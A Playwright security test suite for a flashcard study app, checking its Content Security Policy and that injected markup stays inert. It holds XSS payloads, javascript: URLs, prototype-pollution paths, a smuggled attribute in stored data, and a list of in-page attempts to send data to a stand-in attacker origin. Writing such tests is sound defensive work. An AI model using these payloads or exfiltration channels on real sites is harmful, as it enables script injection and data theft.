import { settingsWords } from '../src/lib/words/settings';
import { expect, noSuchPage, open, ready, test as base } from './support/app';
import { builtPages } from './support/built';
import { grades, questionOf } from './support/desk';
import { notInFirefox } from './support/firefox';
import { poison, Stranger, trap } from './support/stranger';

/** Every test fails if anything of the attacker's ran, or reached the attacker. */
const test = base.extend<{ stranger: Stranger; caught: string[] }>({
	stranger: async ({}, use) => {
		const stranger = await Stranger.open();
		await use(stranger);
		stranger.close();
	},
	caught: [
		async ({ context, stranger }, use) => {
			const caught = await trap(context);
			await use(caught);
			expect(caught, 'nothing ran').toEqual([]);
			expect(stranger.asked, 'nothing leaked').toEqual([]);
		},
		{ auto: true },
	],
});

const script =
	'<img src=x onerror=attacked(1)><svg onload=attacked(2)><script>attacked(3)</script>';
const first = 'a-feared-naval-base-what';

test('no page asks for more than its policy gives, and no policy gives more than it must', async ({
	page,
	request,
}) => {
	test.slow();
	for (const path of [...builtPages(), '/404.html']) {
		const html = await (await request.get(`.${path}`)).text();
		const policy = /http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
		const directives = new Map(
			policy.split('; ').map((each) => {
				const [name = '', ...sources] = each.split(' ');
				return [name, sources] as const;
			}),
		);
		expect(directives.get('default-src'), path).toEqual(["'none'"]);
		expect(directives.get('require-trusted-types-for'), path).toEqual(["'script'"]);
		expect(directives.get('base-uri'), path).toEqual(["'none'"]);
		expect(directives.get('form-action'), path).toEqual(["'none'"]);
		for (const [name, sources] of directives) {
			if (name === 'trusted-types' || name === 'require-trusted-types-for') continue;
			for (const source of sources) {
				const known = /^'(none|self|sha256-[\w+/=]+)'$/.test(source);
				expect(known || (name === 'style-src-attr' && source === "'unsafe-hashes'"), source).toBe(
					true,
				);
			}
		}
		if (path !== '/404.html') await open(page, path);
	}
});

test('a script in a deck’s text is text', async ({ page }) => {
	const replaced = await poison(page, { 'A naval base': script });
	await open(page, `/study/#first=${first}`);
	await expect(grades(page).first()).toBeVisible();
	await expect(page.getByRole('region', { name: 'Answer' })).toContainText(script);
	await expect(page.locator('main img, main script')).toHaveCount(0);
	expect(await replaced()).toBeGreaterThan(0);
});

test.describe('an address in a deck that is a script', () => {
	test.use({ expectedFault: /javascript:|Content Security Policy|script-src/ });

	test('runs nowhere, even past the linter that refuses it', async ({ page, context }) => {
		notInFirefox('A tab that it opens for nothing never answers to Playwright.');
		const address = 'https://www.ankasam.org/south-korea-nato-rapprochement/?lang=en';
		const replaced = await poison(page, { [address]: 'javascript:attacked(4)//' });
		await open(page, '/');
		await page.getByRole('link', { name: 'Choose a deck instead' }).click();
		const link = page.getByRole('link', { name: /^Read the article/ });
		await expect(link).toHaveAttribute('href', /^javascript:/);
		await link.click();
		await link.evaluate((element) => element.removeAttribute('target'));
		await link.click();
		expect(await replaced()).toBeGreaterThan(0);
		for (const tab of context.pages()) await tab.evaluate(() => document.title);
	});
});

test.describe('a link that someone crafted', () => {
	test.use({ expectedFault: noSuchPage });

	for (const [name, path] of [
		['a script for a deck', `/study/#deck=${script}/${script}&first=${script}`],
		['a prototype', '/study/#deck=__proto__/constructor&cap=1e9&first=__proto__'],
		['no characters at all', '/study/#cap=-1&deck=%00/%ff'],
		['a script after ? and #', `/?${script}#${script}`],
		['a script for a setting', `/settings/?theme=${script}`],
		['a script for a page', `/${encodeURIComponent(script)}/`],
		['a prototype for a page', '/articles/__proto__/decks/constructor/'],
	] as const) {
		test(`leads to a page of ours and does nothing more: ${name}`, async ({ page, baseURL }) => {
			await open(page, path);
			await expect(questionOf(page)).toHaveCount(1);
			await expect(page.locator('main img, main script')).toHaveCount(0);
			expect(new URL(page.url()).origin).toBe(new URL(baseURL ?? '').origin);
		});
	}
});

test('what someone left in this browser’s storage does nothing', async ({ page }) => {
	await open(page, '/');
	await page.evaluate((text) => {
		localStorage.setItem('theme', `${text}" onclick="attacked(5)`);
		localStorage.setItem('returning', text);
		sessionStorage.setItem('flashpoint:session', `{"id":"${text}","scope":{"__proto__":{}}}`);
	}, script);
	for (const path of ['/', '/study/', '/settings/']) {
		await open(page, path);
		await expect(questionOf(page)).toHaveCount(1);
		await expect(page.locator('main img, main script')).toHaveCount(0);
	}
	expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBeUndefined();
});

test.describe('from another site', () => {
	test.use({ expectedFault: /^request: http:\/\/127|frame-ancestors|X-Frame-Options|Framing/ });

	test('the app cannot be put into a frame', async ({ page, baseURL, stranger, faults }) => {
		await page.goto(stranger.serve(`<iframe src="${baseURL}settings/"></iframe>`));
		await expect.poll(() => faults.join()).toMatch(/frame-ancestors/);
		const app = page.frameLocator('iframe');
		// A browser may put a page of its own there, to say so.
		await expect(app.getByRole('heading', { name: settingsWords.title })).toHaveCount(0);
	});

	test('a window that was opened on the app has no hold on it', async ({
		page,
		baseURL,
		stranger,
	}) => {
		await page.goto(stranger.serve('<button>Open</button>'));
		await page.evaluate((address) => {
			document.querySelector('button')?.addEventListener('click', () => {
				Object.assign(window, { opened: window.open(address) });
			});
		}, baseURL ?? '');
		const popup = page.waitForEvent('popup');
		await page.getByRole('button').click();
		const app = await popup;
		await ready(app);
		expect(await app.evaluate(() => window.opener as unknown)).toBeNull();
		const closed = () =>
			page.evaluate(() => (window as unknown as { opened: Window }).opened.closed);
		await expect.poll(closed).toBe(true);
	});
});

test.describe('markup that came in all the same', () => {
	test.use({
		expectedFault:
			/policy: |Content Security Policy|TrustedHTML|TrustedScript|^request: |Refused|blocked|can’t establish/,
	});

	test('runs nothing and reaches nobody', async ({ page, stranger }) => {
		await open(page, '/settings/');
		const outcome = await page.evaluate(async (origin) => {
			const leak = (how: string) => `${origin}/${how}`;
			const add = (name: string, attributes: Record<string, string>) => {
				const element = document.createElement(name);
				for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
				document.body.append(element);
				return element;
			};
			const attempts: Record<string, () => unknown> = {
				markup: () => (document.body.innerHTML = '<img src=x onerror=attacked("markup")>'),
				handler: () => add('button', { onclick: 'attacked("handler")' }).click(),
				inline: () => {
					const element = document.createElement('script');
					element.append('attacked("inline")');
					document.body.append(element);
				},
				foreign: () => add('script', { src: leak('script') }),
				data: () => add('script', { src: 'data:text/javascript,attacked("data")' }),
				eval: () => (0, eval)('attacked("eval")'),
				timer: () => setTimeout('attacked("timer")' as unknown as () => void),
				address: () => location.assign('javascript:attacked("address")'),
				worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("/")']))),
				fetch: () => fetch(leak('fetch')),
				beacon: () => navigator.sendBeacon(leak('beacon'), 'all'),
				socket: () => new WebSocket(leak('socket').replace('http', 'ws')),
				stream: () => new EventSource(leak('stream')),
				image: () => add('img', { src: leak('image') }),
				frame: () => add('iframe', { src: leak('frame') }),
				style: () => add('link', { rel: 'stylesheet', href: leak('style') }),
				inlineStyle: () => add('p', { style: `background: url(${leak('inline')})` }),
				object: () => add('object', { data: leak('object') }),
				base: () => add('base', { href: leak('base') }),
				form: () => (add('form', { action: leak('form') }) as HTMLFormElement).submit(),
				prefetch: () => add('link', { rel: 'prefetch', href: leak('prefetch') }),
			};
			// While a test's own words are read, its browser lets eval be.
			await new Promise((resolve) => setTimeout(resolve));
			const thrown: string[] = [];
			for (const [name, attempt] of Object.entries(attempts)) {
				try {
					await attempt();
				} catch {
					thrown.push(name);
				}
			}
			// Whatever it set off has then failed or come about.
			await fetch(location.href);
			await new Promise((resolve) => requestIdleCallback(resolve));
			return { thrown, all: Object.keys(attempts), base: document.baseURI };
		}, stranger.origin);
		expect(outcome.all.length).toBeGreaterThan(20);
		expect(outcome.thrown).toEqual(expect.arrayContaining(['eval', 'fetch']));
		expect(outcome.base).toMatch(/settings\/$/);
		// What had been on its way has arrived by now.
		await open(page, '/');
	});
});
